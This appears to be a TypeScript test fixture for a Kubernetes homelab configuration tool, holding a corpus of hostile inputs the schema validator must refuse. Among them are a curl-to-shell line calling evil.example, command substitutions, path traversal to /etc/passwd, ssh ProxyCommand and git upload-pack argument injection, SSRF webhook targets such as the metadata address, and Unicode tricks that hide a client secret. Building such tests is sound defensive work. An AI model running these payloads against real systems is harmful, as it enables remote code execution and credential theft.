/**
 * The payload corpus and the schema walk shared by test/input.test.ts and test/properties.test.ts.
 */
import { z } from 'zod';
import { siteSchema } from '../charts/site-schema';

export const PAYLOADS: readonly string[] = [
  'x\n; curl http://evil.example/x | sh',
  'a\r\nb',
  '$(id)',
  '${HOME}',
  '`id`',
  'a;b',
  'a && b',
  'a | b',
  "it's",
  'say "hi"',
  '{{ .Data.data.admin_password }}',
  '{{- with secret "kv/data/other" -}}',
  ']]>',
  '<![CDATA[x]]>',
  '</name><evil/>',
  'a\u2028b',
  'a\u2029b',
  'a\u0085b',
  'a\u0000b',
  'a\tb',
  '\u202egnp.exe',
  '%{ if true }x%{ endif }',
  '..',
  '../../etc/passwd',
  '-rf',
  '--upload-pack=touch /tmp/pwned',
  'x'.repeat(100 * 1024),
  'HEAD@{1}',
  ' leading',
  '',
];

/** A field of the schema that holds a string, with the value to build around it. */
interface StringField {
  readonly path: (string | number)[];
  /** The schema is an enum: payloads are refused by definition, still worth asserting. */
  readonly enumValues?: readonly string[];
}

function unwrap(s: z.core.$ZodType): z.core.$ZodType {
  let cur = s;
  // A transform (z.pipe) validates its input schema: walk that one.
  for (;;) {
    if (cur instanceof z.ZodDefault || cur instanceof z.ZodPrefault || cur instanceof z.ZodOptional) cur = cur.unwrap() as z.core.$ZodType;
    else if (cur instanceof z.ZodPipe) cur = cur.in as z.core.$ZodType;
    else break;
  }
  return cur;
}

/** Every string leaf of the schema; array elements as index 0. */
export function stringFields(schema: z.core.$ZodType = siteSchema, path: (string | number)[] = []): StringField[] {
  const s = unwrap(schema);
  if (s instanceof z.ZodString) return [{ path }];
  if (s instanceof z.ZodEnum) return [{ path, enumValues: s.options as string[] }];
  if (s instanceof z.ZodArray) return stringFields(s.element as z.core.$ZodType, [...path, 0]);
  if (s instanceof z.ZodObject) return Object.entries(s.shape).flatMap(([k, v]) => stringFields(v as z.core.$ZodType, [...path, k]));
  return [];
}

/** Every number and boolean leaf of the schema (the rest of the schema besides strings). */
export function scalarFields(schema: z.core.$ZodType = siteSchema, path: (string | number)[] = []): { path: (string | number)[]; kind: 'number' | 'boolean' }[] {
  const s = unwrap(schema);
  if (s instanceof z.ZodNumber) return [{ path, kind: 'number' }];
  if (s instanceof z.ZodBoolean) return [{ path, kind: 'boolean' }];
  if (s instanceof z.ZodArray) return scalarFields(s.element as z.core.$ZodType, [...path, 0]);
  if (s instanceof z.ZodObject) return Object.entries(s.shape).flatMap(([k, v]) => scalarFields(v as z.core.$ZodType, [...path, k]));
  return [];
}

/** Required siblings of an array element, so only the field under test is wrong. */
const ELEMENT: Readonly<Record<string, Record<string, unknown>>> = {
  nodes: { name: 'node-01', ip: '192.168.10.20' },
  'workloads.minio.buckets': { name: 'backups' },
  'workloads.minio.clients': { namespace: 'monitoring', app: 'loki' },
};

/** Required siblings inside an optional object (absent by default), so only the field under test is wrong. */
const OBJECT: Readonly<Record<string, Record<string, unknown>>> = {
  'workloads.backup.target': { endpoint: 'https://backup.example.org', bucket: 'domus-backups' },
};

/** A site input with `value` at `path` (array elements completed from ELEMENT). */
export function inputWith(path: readonly (string | number)[], value: unknown): Record<string, unknown> {
  const root: Record<string, unknown> = {};
  let cur: Record<string, unknown> | unknown[] = root;
  const keys: string[] = [];
  path.forEach((p, i) => {
    const last = i === path.length - 1;
    if (typeof p === 'number') {
      const arr = cur as unknown[];
      if (last) arr[p] = value;
      else {
        const el = { ...(ELEMENT[keys.join('.')] ?? {}) };
        arr[p] = el;
        cur = el;
      }
      return;
    }
    keys.push(p);
    const obj = cur as Record<string, unknown>;
    if (last) obj[p] = value;
    else {
      obj[p] = typeof path[i + 1] === 'number' ? [] : (obj[p] ?? { ...(OBJECT[keys.join('.')] ?? {}) });
      cur = obj[p] as Record<string, unknown> | unknown[];
    }
  });
  return root;
}

/** A Vault-token-shaped value secretlint does not know (issue 25: echoed under an unknown key). */
export const VAULT_TOKEN_LIKE = `s.${'PWNq8tW2cXvR7mJ4kD9sLbZ3'}`;
const dex = (config: string) => ({ workloads: { argocd: { dex: { enabled: true, issuerHosts: ['idp.lan'], config } } } });

/**
 * Hostile site files of issue 25: each is refused with this field path; `redacted` when the value is (or may
 * hold) a credential and must not be echoed. test/input.test.ts runs them.
 */
export const HOSTILE_SITES: readonly { name: string; input: Record<string, unknown>; path: string; redacted?: boolean }[] = [
  // 6. credentials
  {
    name: 'a Dex clientSecret key with a zero-width space',
    input: dex('connectors:\n- type: oidc\n  id: x\n  name: x\n  config:\n    clientSec\u200bret: hunter2\n'),
    path: 'workloads.argocd.dex.config',
    redacted: true,
  },
  {
    name: 'a Dex key in full-width letters (NFKC)',
    input: dex('connectors:\n- type: oidc\n  id: x\n  name: x\n  config:\n    \uff43lientSecret: hunter2\n'),
    path: 'workloads.argocd.dex.config',
    redacted: true,
  },
  {
    name: "a reference to another component's secret ($argocd-secret:server.secretkey)",
    input: dex('connectors:\n- type: oidc\n  id: x\n  name: x\n  config:\n    clientSecret: $argocd-secret:server.secretkey\n'),
    path: 'workloads.argocd.dex.config',
    redacted: true,
  },
  {
    name: "a reference to a key of argocd-secret that is not Dex's ($server.secretkey)",
    input: dex('connectors:\n- type: oidc\n  id: x\n  name: x\n  config:\n    clientSecret: $server.secretkey\n'),
    path: 'workloads.argocd.dex.config',
    redacted: true,
  },
  { name: 'a Vault token under an unknown key', input: { vault: { token: VAULT_TOKEN_LIKE } }, path: 'vault.token', redacted: true },
  {
    name: 'a password under an unknown nested key',
    input: { workloads: { grafana: { adminPassword: 'hunter2hunter2' } } },
    path: 'workloads.grafana.adminPassword',
    redacted: true,
  },
  // 7. image tags
  ...['main', 'nightly', 'Latest', 'LATEST', 'master', 'edge', 'dev'].map((tag) => ({
    name: `image tag "${tag}"`,
    input: { workloads: { grafana: { version: tag } } },
    path: 'workloads.grafana.version',
  })),
  { name: 'image tag "latest" on Argo CD', input: { workloads: { argocd: { version: 'latest' } } }, path: 'workloads.argocd.version' },
  // 9. inputs that break the cluster
  {
    name: '10,000 admin allow-list CIDRs (annotation over 256 KiB)',
    input: { workloads: { traefik: { adminAllowCidrs: Array.from({ length: 10_000 }, (_, i) => `10.${(i >> 8) & 255}.${i & 255}.0/24`) } } },
    path: 'workloads.traefik.adminAllowCidrs',
  },
  { name: "retention past Go's duration range (300y)", input: { workloads: { loki: { retention: '300y' } } }, path: 'workloads.loki.retention' },
  { name: 'retention 0s', input: { workloads: { prometheus: { retention: '0d' } } }, path: 'workloads.prometheus.retention' },
  { name: 'a Vault CIDR equal to the pod CIDR', input: { vault: { address: 'https://vault.domus.lan:8200', cidrs: ['10.42.0.0/16'] } }, path: 'vault.cidrs[0]' },
  { name: 'a Vault CIDR inside the service CIDR', input: { vault: { address: 'https://vault.domus.lan:8200', cidrs: ['10.43.0.1/32'] } }, path: 'vault.cidrs[0]' },
  {
    name: 'a webhook to the cloud metadata address',
    input: { workloads: { alertmanager: { receivers: [{ type: 'webhook', name: 'w', host: '169.254.169.254' }] } } },
    path: 'workloads.alertmanager.receivers[0].host',
  },
  {
    name: 'a webhook to the API server',
    input: { workloads: { alertmanager: { receivers: [{ type: 'webhook', name: 'w', host: 'kubernetes.default.svc' }] } } },
    path: 'workloads.alertmanager.receivers[0].host',
  },
  {
    name: 'a webhook to a cluster.local name',
    input: { workloads: { alertmanager: { receivers: [{ type: 'webhook', name: 'w', host: 'vault.vault.svc.cluster.local' }] } } },
    path: 'workloads.alertmanager.receivers[0].host',
  },
  {
    name: 'a webhook to loopback',
    input: { workloads: { alertmanager: { receivers: [{ type: 'webhook', name: 'w', host: '127.0.0.1' }] } } },
    path: 'workloads.alertmanager.receivers[0].host',
  },
  {
    name: 'an SMTP relay in the pod CIDR',
    input: { workloads: { alertmanager: { receivers: [{ type: 'email', name: 'm', to: 'a@b.org', from: 'c@d.org', smarthost: '10.42.0.7' }] } } },
    path: 'workloads.alertmanager.receivers[0].smarthost',
  },
  { name: 'bucket name a..b', input: { workloads: { minio: { buckets: [{ name: 'a..b' }] } } }, path: 'workloads.minio.buckets[0].name' },
  { name: 'bucket name shaped like an IP', input: { workloads: { minio: { buckets: [{ name: '192.168.1.1' }] } } }, path: 'workloads.minio.buckets[0].name' },
  { name: 'bucket name xn--', input: { workloads: { minio: { buckets: [{ name: 'xn--abc' }] } } }, path: 'workloads.minio.buckets[0].name' },
  { name: 'bucket name ending -s3alias', input: { workloads: { minio: { buckets: [{ name: 'abc-s3alias' }] } } }, path: 'workloads.minio.buckets[0].name' },
  { name: 'bucket name with a dot next to a hyphen', input: { workloads: { minio: { buckets: [{ name: 'a-.b' }] } } }, path: 'workloads.minio.buckets[0].name' },
  { name: 'git.path into .git', input: { git: { path: '.git/hooks' } }, path: 'git.path' },
  { name: 'git.path with a hidden segment', input: { git: { path: 'dist/.hidden' } }, path: 'git.path' },
  { name: 'a namespace named node-exporter', input: { namespaces: { monitoring: 'node-exporter' } }, path: 'namespaces.monitoring' },
  { name: 'a namespace named log-agent', input: { namespaces: { storage: 'log-agent' } }, path: 'namespaces.storage' },
  {
    name: 'an ssh user that is a flag',
    input: {
      git: {
        repoURL: 'ssh://-oProxyCommand=touch@git.domus.lan/homelab/x.git',
        sshKnownHosts: ['git.domus.lan ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl'],
      },
    },
    path: 'git.repoURL',
  },
  { name: 'an scp-style user that is a flag', input: { git: { repoURL: '-oProxyCommand=x@git.domus.lan:homelab/x.git' } }, path: 'git.repoURL' },
  { name: '40,000 buckets', input: { workloads: { minio: { buckets: Array.from({ length: 40_000 }, (_, i) => ({ name: `bucket-${i}` })) } } }, path: 'workloads.minio.buckets' },
  { name: '5,000 nodes', input: { nodes: Array.from({ length: 5000 }, (_, i) => ({ name: `n-${i}`, ip: `10.9.${i >> 8}.${i & 255}` })) }, path: 'nodes' },
];
